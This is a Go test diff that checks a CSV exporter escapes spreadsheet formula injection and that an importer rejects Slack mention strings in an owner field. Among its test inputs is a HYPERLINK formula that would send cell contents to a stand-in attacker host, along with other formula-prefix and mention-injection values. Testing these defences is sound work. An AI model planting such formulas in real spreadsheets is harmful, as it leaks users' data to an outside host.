@@ -3,6 +3,7 @@ package store_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"io"
@@ -527,4 +528,67 @@ func TestImportCSV_refusesAFileOfAnotherKind(t *testing.T) {
 			}
 		}
 	})
+}
+
+// TestExportCSV_neutralisesFormulas: a stored value a spreadsheet would run as a formula is
+// exported as text ('=…) and comes back unchanged on import.
+func TestExportCSV_neutralisesFormulas(t *testing.T) {
+	ctx := context.Background()
+	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1 boss", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
+	storetest.Each(t, func(t *testing.T, d store.Dialect) {
+		src := storetest.Open(t, d)
+		var in bytes.Buffer
+		w := csv.NewWriter(&in)
+		w.Write([]string{"name", "domain", "industry"})
+		for i, h := range hostile {
+			w.Write([]string{fmt.Sprintf("Formula %d", i), fmt.Sprintf("formula%d.example", i), h})
+		}
+		w.Flush()
+		csvIn := in.String()
+		if res := importCSV(t, src, store.CSVAccounts, csvIn); res.Rejected != 0 {
+			t.Fatalf("import: %v", res.Errors)
+		}
+		var out bytes.Buffer
+		if _, err := src.ExportCSV(ctx, store.CSVAccounts, &out); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, rec := range recs[1:] {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("exported cell %q would run as a formula", cell)
+				}
+			}
+		}
+		dst := storetest.Open(t, d)
+		if res, err := dst.ImportCSV(ctx, store.CSVAccounts, &out, store.CSVOptions{}); err != nil || res.Rejected != 0 {
+			t.Fatalf("re-import: %v %v", err, res.Errors)
+		}
+		var got []string
+		dst.DB().Table("accounts").Order("name").Pluck("industry", &got)
+		for i, h := range hostile {
+			if want := strings.TrimSpace(h); i >= len(got) || got[i] != want {
+				t.Errorf("industry %d after the round trip = %q, want %q", i, got, want)
+			}
+		}
+	})
+}
+
+func TestSpreadsheetSafe(t *testing.T) {
+	for in, want := range map[string]string{"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx", "Acme": "Acme", "": "", "'quoted": "'quoted"} {
+		if got := store.SpreadsheetSafe(in); got != want {
+			t.Errorf("%q: %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestImportCSV_ownerMustBeASlackUserID: an owner that is not a user id is a row error, never a
+// mention waiting to happen.
+func TestImportCSV_ownerMustBeASlackUserID(t *testing.T) {
+	st := storetest.Open(t, store.SQLite)
+	res := importCSV(t, st, store.CSVAccounts, "name,owner_user_id\nGood,U0123ABC\nBad,<!channel>\nWorse,<@U1|x>\n")
+	wantErrors(t, res, "3/owner_user_id", "4/owner_user_id")
 }
